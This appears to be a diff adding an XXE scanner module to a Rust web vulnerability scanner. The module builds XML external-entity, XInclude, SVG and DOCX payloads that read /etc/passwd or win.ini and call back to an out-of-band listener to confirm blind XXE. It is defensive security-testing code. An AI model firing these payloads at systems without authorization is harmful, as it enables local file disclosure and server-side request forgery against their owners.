@@ -0,0 +1,700 @@
+use crate::core::config::{AppConfig, InsertionPointType};
+use crate::handler::scan::engine::{Confidence, ScanResult};
+use crate::handler::scan::oob::{OobListener, OobToken};
+use crate::handler::scan::proxy::{HttpRequest, HttpResponse};
+use crate::handler::scan::scanners::Scanner;
+use crate::handler::scan::utils::{generate_random_string, http, insertion};
+use anyhow::Result;
+use async_trait::async_trait;
+use log::{debug, warn};
+use regex::Regex;
+use std::io::Write;
+use std::sync::Arc;
+use std::time::Duration;
+
+/// 本地文件读取载荷：(文件URI, 响应特征)
+const FILE_TARGETS: &[(&str, &[&str])] = &[
+    ("file:///etc/passwd", &["root:x:0:0", "root:*:0:0", "daemon:x:1:"]),
+    ("file:///c:/windows/win.ini", &["[fonts]", "for 16-bit app support"]),
+];
+
+/// XInclude测试的最大参数数量
+const MAX_XINCLUDE_PARAMS: usize = 10;
+
+/// 等待OOB回连的注入记录
+struct PendingOob {
+    vector: String,
+    parameter: Option<String>,
+    payload: String,
+    /// 注入载荷后发送的测试请求
+    request: HttpRequest,
+    token: OobToken,
+}
+
+/// XXE扫描器
+#[derive(Clone)]
+pub struct XxeScanner {
+    /// 配置
+    config: Arc<AppConfig>,
+    /// HTTP客户端
+    http_client: reqwest::Client,
+}
+
+impl XxeScanner {
+    /// 创建新的XXE扫描器
+    pub fn new(config: Arc<AppConfig>) -> Self {
+        let http_client = http::client(Duration::from_millis(config.scanner.timeout_ms), true);
+
+        Self {
+            config,
+            http_client,
+        }
+    }
+
+    /// 获取请求头（忽略大小写）
+    fn header<'a>(request: &'a HttpRequest, name: &str) -> Option<&'a str> {
+        request
+            .headers
+            .iter()
+            .find(|(k, _)| k.eq_ignore_ascii_case(name))
+            .map(|(_, v)| v.as_str())
+    }
+
+    /// 判断请求体是否为XML（包括SOAP）
+    fn is_xml_body(request: &HttpRequest) -> bool {
+        if request.body.is_empty() {
+            return false;
+        }
+        let content_type = Self::header(request, "content-type").unwrap_or("").to_lowercase();
+        if content_type.contains("xml") || content_type.contains("soap") {
+            return true;
+        }
+        let body = String::from_utf8_lossy(&request.body);
+        let body = body.trim_start();
+        body.starts_with("<?xml") || (body.starts_with('<') && body.trim_end().ends_with('>'))
+    }
+
+    /// 判断请求体是否为JSON
+    fn is_json_body(request: &HttpRequest) -> bool {
+        let content_type = Self::header(request, "content-type").unwrap_or("").to_lowercase();
+        content_type.contains("json") && serde_json::from_slice::<serde_json::Value>(&request.body).is_ok()
+    }
+
+    /// 将JSON请求体转换为等价的XML，用于测试Content-Type切换
+    fn json_to_xml(value: &serde_json::Value) -> String {
+        fn write_value(out: &mut String, name: &str, value: &serde_json::Value) {
+            // XML元素名不能以数字开头，也不能包含特殊字符
+            let name: String = name
+                .chars()
+                .map(|c| if c.is_ascii_alphanumeric() || c == '_' || c == '-' { c } else { '_' })
+                .collect();
+            let name = if name.is_empty() || name.starts_with(|c: char| c.is_ascii_digit()) {
+                format!("item{}", name)
+            } else {
+                name
+            };
+
+            match value {
+                serde_json::Value::Object(map) => {
+                    out.push_str(&format!("<{}>", name));
+                    for (k, v) in map {
+                        write_value(out, k, v);
+                    }
+                    out.push_str(&format!("</{}>", name));
+                }
+                serde_json::Value::Array(items) => {
+                    for item in items {
+                        write_value(out, &name, item);
+                    }
+                }
+                serde_json::Value::Null => out.push_str(&format!("<{}/>", name)),
+                serde_json::Value::String(s) => {
+                    let escaped = s.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;");
+                    out.push_str(&format!("<{}>{}</{}>", name, escaped, name));
+                }
+                other => out.push_str(&format!("<{}>{}</{}>", name, other, name)),
+            }
+        }
+
+        let mut out = String::from("<?xml version=\"1.0\" encoding=\"UTF-8\"?>");
+        write_value(&mut out, "root", value);
+        out
+    }
+
+    /// 在XML中插入DOCTYPE，并将第一个文本节点替换为实体引用
+    ///
+    /// 已存在DOCTYPE时返回None，避免生成非法文档
+    fn inject_doctype(xml: &str, dtd: &str, entity_ref: Option<&str>) -> Option<String> {
+        if xml.contains("<!DOCTYPE") {
+            return None;
+        }
+
+        let root_re = Regex::new(r"<([A-Za-z_][\w:.-]*)").ok()?;
+        let root = root_re.captures_iter(xml).next()?;
+        let root_name = root.get(1)?.as_str();
+        let root_start = root.get(0)?.start();
+
+        let doctype = format!("<!DOCTYPE {} [{}]>", root_name, dtd);
+        let mut body = xml[root_start..].to_string();
+
+        if let Some(entity_ref) = entity_ref {
+            let text_re = Regex::new(r">([^<>]*[^<>\s][^<>]*)<").ok()?;
+            body = match text_re.captures(&body) {
+                Some(caps) => {
+                    let m = caps.get(1)?;
+                    format!("{}{}{}", &body[..m.start()], entity_ref, &body[m.end()..])
+                }
+                None => {
+                    // 没有文本节点时在根元素开始标签后插入
+                    let pos = body.find('>')? + 1;
+                    format!("{}{}{}", &body[..pos], entity_ref, &body[pos..])
+                }
+            };
+        }
+
+        Some(format!("{}{}{}", &xml[..root_start], doctype, body))
+    }
+
+    /// 从multipart请求头中提取boundary
+    fn multipart_boundary(request: &HttpRequest) -> Option<String> {
+        let content_type = Self::header(request, "content-type")?;
+        if !content_type.to_lowercase().starts_with("multipart/form-data") {
+            return None;
+        }
+        content_type
+            .split(';')
+            .map(|p| p.trim())
+            .find(|p| p.to_lowercase().starts_with("boundary="))
+            .map(|p| p["boundary=".len()..].trim_matches('"').to_string())
+    }
+
+    /// 查找子串位置
+    fn find_bytes(haystack: &[u8], needle: &[u8], from: usize) -> Option<usize> {
+        if from >= haystack.len() || needle.is_empty() {
+            return None;
+        }
+        haystack[from..]
+            .windows(needle.len())
+            .position(|w| w == needle)
+            .map(|p| p + from)
+    }
+
+    /// 替换multipart请求中所有文件字段的文件名、类型和内容
+    fn replace_file_parts(body: &[u8], boundary: &str, filename: &str, content_type: &str, content: &[u8]) -> Option<Vec<u8>> {
+        let delimiter = format!("--{}", boundary).into_bytes();
+        let mut positions = Vec::new();
+        let mut from = 0;
+        while let Some(pos) = Self::find_bytes(body, &delimiter, from) {
+            positions.push(pos);
+            from = pos + delimiter.len();
+        }
+        if positions.len() < 2 {
+            return None;
+        }
+
+        let filename_re = Regex::new(r#"filename="[^"]*""#).ok()?;
+        let mut replaced = false;
+        let mut output = body[..positions[0]].to_vec();
+
+        for window in positions.windows(2) {
+            let part = &body[window[0] + delimiter.len()..window[1]];
+            output.extend_from_slice(&delimiter);
+
+            let header_end = match Self::find_bytes(part, b"\r\n\r\n", 0) {
+                Some(pos) => pos,
+                None => {
+                    output.extend_from_slice(part);
+                    continue;
+                }
+            };
+            let headers = String::from_utf8_lossy(&part[..header_end]).to_string();
+            if !headers.contains("filename=") {
+                output.extend_from_slice(part);
+                continue;
+            }
+
+            let headers: Vec<String> = headers
+                .split("\r\n")
+                .filter(|line| !line.to_lowercase().starts_with("content-type:"))
+                .map(|line| filename_re.replace(line, format!("filename=\"{}\"", filename).as_str()).to_string())
+                .collect();
+            output.extend_from_slice(headers.join("\r\n").as_bytes());
+            output.extend_from_slice(format!("\r\nContent-Type: {}\r\n\r\n", content_type).as_bytes());
+            output.extend_from_slice(content);
+            output.extend_from_slice(b"\r\n");
+            replaced = true;
+        }
+
+        output.extend_from_slice(&body[*positions.last()?..]);
+        if replaced {
+            Some(output)
+        } else {
+            None
+        }
+    }
+
+    /// 构造包含XXE载荷的SVG文件
+    fn build_svg(oob_url: Option<&str>) -> String {
+        let mut dtd = String::from("<!ENTITY rsfile SYSTEM \"file:///etc/passwd\">");
+        if let Some(url) = oob_url {
+            dtd.push_str(&format!("<!ENTITY % rsoob SYSTEM \"{}\"> %rsoob;", url));
+        }
+        format!(
+            "<?xml version=\"1.0\" standalone=\"yes\"?><!DOCTYPE svg [{}]><svg xmlns=\"http://www.w3.org/2000/svg\" width=\"200\" height=\"200\"><text x=\"10\" y=\"20\">&rsfile;</text></svg>",
+            dtd
+        )
+    }
+
+    /// 构造在document.xml中携带OOB载荷的最小DOCX文件
+    fn build_docx(oob_url: &str) -> Result<Vec<u8>> {
+        let files = [
+            (
+                "[Content_Types].xml",
+                "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/><Default Extension=\"xml\" ContentType=\"application/xml\"/><Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>".to_string(),
+            ),
+            (
+                "_rels/.rels",
+                "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\"word/document.xml\"/></Relationships>".to_string(),
+            ),
+            (
+                "word/document.xml",
+                format!(
+                    "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?><!DOCTYPE w:document [<!ENTITY % rsoob SYSTEM \"{}\"> %rsoob;]><w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p><w:r><w:t>rshield</w:t></w:r></w:p></w:body></w:document>",
+                    oob_url
+                ),
+            ),
+        ];
+
+        let mut writer = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
+        for (name, content) in files.iter() {
+            writer.start_file(*name, zip::write::SimpleFileOptions::default())?;
+            writer.write_all(content.as_bytes())?;
+        }
+        Ok(writer.finish()?.into_inner())
+    }
+
+    /// 构造替换了请求体的测试请求
+    fn with_body(request: &HttpRequest, body: Vec<u8>, content_type: Option<&str>) -> HttpRequest {
+        let mut test_request = request.clone();
+        test_request.body = body;
+        if let Some(content_type) = content_type {
+            test_request.headers.retain(|k, _| !k.eq_ignore_ascii_case("content-type"));
+            test_request.headers.insert("Content-Type".to_string(), content_type.to_string());
+        }
+        test_request
+    }
+
+    /// 发送测试请求
+    async fn send_request(&self, request: &HttpRequest) -> Result<HttpResponse> {
+        http::send_request(&self.http_client, request).await
+    }
+
+    /// 查找响应中新出现的本地文件内容特征
+    fn match_file_signature<'a>(original: &HttpResponse, response: &HttpResponse, signatures: &[&'a str]) -> Option<&'a str> {
+        let original_body = String::from_utf8_lossy(&original.body);
+        let body = String::from_utf8_lossy(&response.body);
+        signatures
+            .iter()
+            .find(|sig| body.contains(**sig) && !original_body.contains(**sig))
+            .copied()
+    }
+
+    /// 构造扫描结果，exchange为证明漏洞的(测试请求, 响应, 响应中的证据)
+    #[allow(clippy::too_many_arguments)]
+    fn build_result(
+        &self,
+        request: &HttpRequest,
+        vector: &str,
+        parameter: Option<String>,
+        payload: &str,
+        risk_level: &str,
+        confidence: Confidence,
+        evidence: String,
+        exchange: (&HttpRequest, Option<&HttpResponse>, Option<&str>),
+    ) -> ScanResult {
+        ScanResult {
+            vulnerability_type: "XXE".to_string(),
+            name: "XML外部实体注入漏洞".to_string(),
+            description: "检测到XML外部实体注入（XXE）漏洞，XML解析器处理了攻击者控制的实体定义，可导致任意文件读取、SSRF或数据外带".to_string(),
+            risk_level: risk_level.to_string(),
+            url: request.url.to_string(),
+            method: request.method.to_string(),
+            parameter,
+            value: Some(payload.to_string()),
+            evidence: Some(evidence),
+            remediation: Some("禁用XML解析器的DTD与外部实体解析（如 disallow-doctype-decl、XMLConstants.FEATURE_SECURE_PROCESSING），禁用XInclude，上传的SVG/Office文件在隔离环境中解析".to_string()),
+            details: Some(format!("注入方式: {}", vector)),
+            timestamp: chrono::Utc::now(),
+            request_details: None,
+            response_details: None,
+            confidence,
+            payload_ranges: Vec::new(),
+            evidence_ranges: Vec::new(),
+        }
+        .with_exchange(exchange.0, exchange.1, Some(payload), exchange.2)
+    }
+
+    /// 对XML请求体进行实体注入测试
+    #[allow(clippy::too_many_arguments)]
+    async fn test_xml_body(
+        &self,
+        request: &HttpRequest,
+        original: &HttpResponse,
+        xml: &str,
+        content_type: Option<&str>,
+        vector: &str,
+        listener: Option<&OobListener>,
+        pending: &mut Vec<PendingOob>,
+    ) -> Vec<ScanResult> {
+        let mut results = Vec::new();
+
+        // 外部实体读取本地文件
+        for (uri, signatures) in FILE_TARGETS {
+            let dtd = format!("<!ENTITY rsxxe SYSTEM \"{}\">", uri);
+            let payload = match Self::inject_doctype(xml, &dtd, Some("&rsxxe;")) {
+                Some(p) => p,
+                None => return results,
+            };
+            let test_request = Self::with_body(request, payload.clone().into_bytes(), content_type);
+            if let Ok(response) = self.send_request(&test_request).await {
+                if let Some(sig) = Self::match_file_signature(original, &response, signatures) {
+                    results.push(self.build_result(
+                        request,
+                        &format!("{}（外部实体读取本地文件）", vector),
+                        None,
+                        &payload,
+                        "High",
+                        Confidence::Certain,
+                        format!("响应中出现 {} 的内容: {}", uri, sig),
+                        (&test_request, Some(&response), Some(sig)),
+                    ));
+                    return results;
+                }
+            }
+        }
+
+        // 通过参数实体和外部实体回连确认盲XXE
+        if let Some(listener) = listener {
+            let token = listener.new_token("XXE Scanner");
+            let dtd = format!(
+                "<!ENTITY % rsoob SYSTEM \"{}\"> %rsoob;<!ENTITY rsext SYSTEM \"{}/ext\">",
+                token.http_url, token.http_url
+            );
+            if let Some(payload) = Self::inject_doctype(xml, &dtd, Some("&rsext;")) {
+                let test_request = Self::with_body(request, payload.clone().into_bytes(), content_type);
+                if let Err(e) = self.send_request(&test_request).await {
+                    debug!("XXE OOB测试请求失败: {}", e);
+                }
+                pending.push(PendingOob {
+                    vector: format!("{}（参数实体外带）", vector),
+                    parameter: None,
+                    payload,
+                    request: test_request,
+                    token,
+                });
+            }
+        }
+
+        // 内部实体展开，说明解析器处理了DTD
+        let marker = format!("rsxxe{}", generate_random_string(8).to_lowercase());
+        let dtd = format!("<!ENTITY rsxxe \"{}\">", marker);
+        if let Some(payload) = Self::inject_doctype(xml, &dtd, Some("&rsxxe;")) {
+            let test_request = Self::with_body(request, payload.clone().into_bytes(), content_type);
+            if let Ok(response) = self.send_request(&test_request).await {
+                let body = String::from_utf8_lossy(&response.body);
+                if body.contains(&marker) {
+                    results.push(self.build_result(
+                        request,
+                        &format!("{}（内部实体展开）", vector),
+                        None,
+                        &payload,
+                        "Medium",
+                        Confidence::Firm,
+                        format!("自定义实体被展开，响应中出现标记 {}", marker),
+                        (&test_request, Some(&response), Some(marker.as_str())),
+                    ));
+                }
+            }
+        }
+
+        results
+    }
+
+    /// 对普通参数进行XInclude注入测试
+    async fn test_xinclude(
+        &self,
+        request: &HttpRequest,
+        original: &HttpResponse,
+        listener: Option<&OobListener>,
+        pending: &mut Vec<PendingOob>,
+    ) -> Vec<ScanResult> {
+        let mut results = Vec::new();
+
+        let params = insertion::params(request, &self.config.scanner);
+
+        for (param_name, _) in params.into_iter().take(MAX_XINCLUDE_PARAMS) {
+            let (uri, signatures) = FILE_TARGETS[0];
+            let payload = format!(
+                "<rs xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"{}\"/></rs>",
+                uri
+            );
+            let test_request = insertion::with_param(request, &param_name, &payload);
+            if let Ok(response) = self.send_request(&test_request).await {
+                if let Some(sig) = Self::match_file_signature(original, &response, signatures) {
+                    results.push(self.build_result(
+                        request,
+                        "XInclude",
+                        Some(param_name.clone()),
+                        &payload,
+                        "High",
+                        Confidence::Certain,
+                        format!("响应中出现 {} 的内容: {}", uri, sig),
+                        (&test_request, Some(&response), Some(sig)),
+                    ));
+                    continue;
+                }
+            }
+
+            if let Some(listener) = listener {
+                let token = listener.new_token("XXE Scanner");
+                let payload = format!(
+                    "<rs xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"{}\"/></rs>",
+                    token.http_url
+                );
+                let test_request = insertion::with_param(request, &param_name, &payload);
+                if let Err(e) = self.send_request(&test_request).await {
+                    debug!("XInclude OOB测试请求失败: {}", e);
+                }
+                pending.push(PendingOob {
+                    vector: "XInclude（外带）".to_string(),
+                    parameter: Some(param_name.clone()),
+                    payload,
+                    request: test_request,
+                    token,
+                });
+            }
+        }
+
+        results
+    }
+
+    /// 对文件上传进行SVG和DOCX注入测试
+    async fn test_upload(
+        &self,
+        request: &HttpRequest,
+        original: &HttpResponse,
+        boundary: &str,
+        listener: Option<&OobListener>,
+        pending: &mut Vec<PendingOob>,
+    ) -> Vec<ScanResult> {
+        let mut results = Vec::new();
+
+        let svg_token = listener.map(|l| l.new_token("XXE Scanner"));
+        let svg = Self::build_svg(svg_token.as_ref().map(|t| t.http_url.as_str()));
+        if let Some(body) = Self::replace_file_parts(&request.body, boundary, "rshield.svg", "image/svg+xml", svg.as_bytes()) {
+            let test_request = Self::with_body(request, body, None);
+            match self.send_request(&test_request).await {
+                Ok(response) => {
+                    if let Some(sig) = Self::match_file_signature(original, &response, FILE_TARGETS[0].1) {
+                        results.push(self.build_result(
+                            request,
+                            "SVG文件上传",
+                            None,
+                            &svg,
+                            "High",
+                            Confidence::Certain,
+                            format!("上传SVG后响应中出现本地文件内容: {}", sig),
+                            (&test_request, Some(&response), Some(sig)),
+                        ));
+                    }
+                }
+                Err(e) => debug!("SVG上传测试请求失败: {}", e),
+            }
+            if let Some(token) = svg_token {
+                pending.push(PendingOob {
+                    vector: "SVG文件上传（外带）".to_string(),
+                    parameter: None,
+                    payload: svg.clone(),
+                    request: test_request,
+                    token,
+                });
+            }
+        }
+
+        if let Some(listener) = listener {
+            let token = listener.new_token("XXE Scanner");
+            match Self::build_docx(&token.http_url) {
+                Ok(docx) => {
+                    if let Some(body) = Self::replace_file_parts(
+                        &request.body,
+                        boundary,
+                        "rshield.docx",
+                        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
+                        &docx,
+                    ) {
+                        let test_request = Self::with_body(request, body, None);
+                        if let Err(e) = self.send_request(&test_request).await {
+                            debug!("DOCX上传测试请求失败: {}", e);
+                        }
+                        pending.push(PendingOob {
+                            vector: "DOCX文件上传（外带）".to_string(),
+                            parameter: None,
+                            payload: format!("word/document.xml: <!ENTITY % rsoob SYSTEM \"{}\"> %rsoob;", token.http_url),
+                            request: test_request,
+                            token,
+                        });
+                    }
+                }
+                Err(e) => debug!("生成DOCX载荷失败: {}", e),
+            }
+        }
+
+        results
+    }
+}
+
+#[async_trait]
+impl Scanner for XxeScanner {
+    async fn name(&self) -> String {
+        "XXE Scanner".to_string()
+    }
+
+    async fn scan(&self, request: &HttpRequest, response: &HttpResponse) -> Vec<ScanResult> {
+        let mut results = Vec::new();
+        let mut pending = Vec::new();
+
+        let listener = match OobListener::for_scan(&self.config.oob).await {
+            Ok(listener) => Some(listener),
+            Err(e) => {
+                warn!("OOB监听不可用，XXE不进行外带测试: {}", e);
+                None
+            }
+        };
+        let listener_ref = listener.as_deref();
+
+        // 请求体整体替换为XML
+        if self.config.scanner.allows(InsertionPointType::Body) {
+            if Self::is_xml_body(request) {
+                let xml = String::from_utf8_lossy(&request.body).to_string();
+                results.extend(
+                    self.test_xml_body(request, response, &xml, None, "XML请求体", listener_ref, &mut pending)
+                        .await,
+                );
+            } else if Self::is_json_body(request) {
+                // 很多框架会根据Content-Type自动选择解析器
+                if let Ok(value) = serde_json::from_slice::<serde_json::Value>(&request.body) {
+                    let xml = Self::json_to_xml(&value);
+                    results.extend(
+                        self.test_xml_body(
+                            request,
+                            response,
+                            &xml,
+                            Some("application/xml"),
+                            "Content-Type由JSON切换为XML",
+                            listener_ref,
+                            &mut pending,
+                        )
+                        .await,
+                    );
+                }
+            } else if let Some(boundary) = Self::multipart_boundary(request) {
+                results.extend(self.test_upload(request, response, &boundary, listener_ref, &mut pending).await);
+            }
+        }
+
+        results.extend(self.test_xinclude(request, response, listener_ref, &mut pending).await);
+
+        // 集中等待回连
+        if let Some(listener) = &listener {
+            let deadline = tokio::time::Instant::now() + listener.wait_duration();
+            for item in pending {
+                let remaining = deadline.saturating_duration_since(tokio::time::Instant::now());
+                let interactions = listener.wait_for(&item.token.token, remaining).await;
+                if let Some(first) = interactions.first() {
+                    results.push(self.build_result(
+                        request,
+                        &item.vector,
+                        item.parameter,
+                        &item.payload,
+                        "High",
+                        Confidence::Certain,
+                        format!(
+                            "收到来自 {} 的{}回连: {} (token: {})",
+                            first.remote_addr,
+                            first.protocol.to_uppercase(),
+                            first.summary,
+                            item.token.token
+                        ),
+                        (&item.request, None, None),
+                    ));
+                }
+            }
+        }
+
+        results
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use std::collections::HashMap;
+
+    fn create_test_request(content_type: &str, body: &str) -> HttpRequest {
+        let mut headers = HashMap::new();
+        headers.insert("Content-Type".to_string(), content_type.to_string());
+        HttpRequest {
+            method: "POST".to_string(),
+            url: "http://example.com/api".to_string(),
+            headers,
+            body: body.as_bytes().to_vec(),
+            params: vec![],
+        }
+    }
+
+    #[tokio::test]
+    async fn test_xxe_scanner_name() {
+        let scanner = XxeScanner::new(Arc::new(AppConfig::default()));
+        assert_eq!(scanner.name().await, "XXE Scanner");
+    }
+
+    #[test]
+    fn test_inject_doctype() {
+        let xml = "<?xml version=\"1.0\"?><order><id>1</id></order>";
+        let injected = XxeScanner::inject_doctype(xml, "<!ENTITY rsxxe \"x\">", Some("&rsxxe;")).unwrap();
+        assert_eq!(
+            injected,
+            "<?xml version=\"1.0\"?><!DOCTYPE order [<!ENTITY rsxxe \"x\">]><order><id>&rsxxe;</id></order>"
+        );
+
+        let soap = "<soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body/></soap:Envelope>";
+        let injected = XxeScanner::inject_doctype(soap, "", Some("&e;")).unwrap();
+        assert!(injected.starts_with("<!DOCTYPE soap:Envelope []>"));
+        assert!(injected.contains("envelope/\">&e;<soap:Body/>"));
+
+        assert!(XxeScanner::inject_doctype("<!DOCTYPE a><a/>", "", None).is_none());
+    }
+
+    #[test]
+    fn test_body_detection_and_json_conversion() {
+        assert!(XxeScanner::is_xml_body(&create_test_request("text/xml", "<a>1</a>")));
+        assert!(XxeScanner::is_xml_body(&create_test_request("text/plain", "<?xml version=\"1.0\"?><a/>")));
+        assert!(!XxeScanner::is_xml_body(&create_test_request("application/json", "{\"a\":1}")));
+        assert!(XxeScanner::is_json_body(&create_test_request("application/json", "{\"a\":1}")));
+
+        let value: serde_json::Value = serde_json::from_str(r#"{"user":{"name":"a<b","tags":["x","y"]},"1d":null}"#).unwrap();
+        let xml = XxeScanner::json_to_xml(&value);
+        assert!(xml.contains("<user><name>a&lt;b</name><tags>x</tags><tags>y</tags></user>"));
+        assert!(xml.contains("<item1d/>"));
+    }
+
+    #[test]
+    fn test_replace_file_parts() {
+        let body = "--XYZ\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nhello\r\n--XYZ\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.png\"\r\nContent-Type: image/png\r\n\r\nPNGDATA\r\n--XYZ--\r\n";
+        let replaced = XxeScanner::replace_file_parts(body.as_bytes(), "XYZ", "x.svg", "image/svg+xml", b"<svg/>").unwrap();
+        let replaced = String::from_utf8(replaced).unwrap();
+        assert!(replaced.contains("name=\"title\"\r\n\r\nhello\r\n"));
+        assert!(replaced.contains("filename=\"x.svg\"\r\nContent-Type: image/svg+xml\r\n\r\n<svg/>\r\n--XYZ--\r\n"));
+        assert!(!replaced.contains("PNGDATA"));
+    }
+}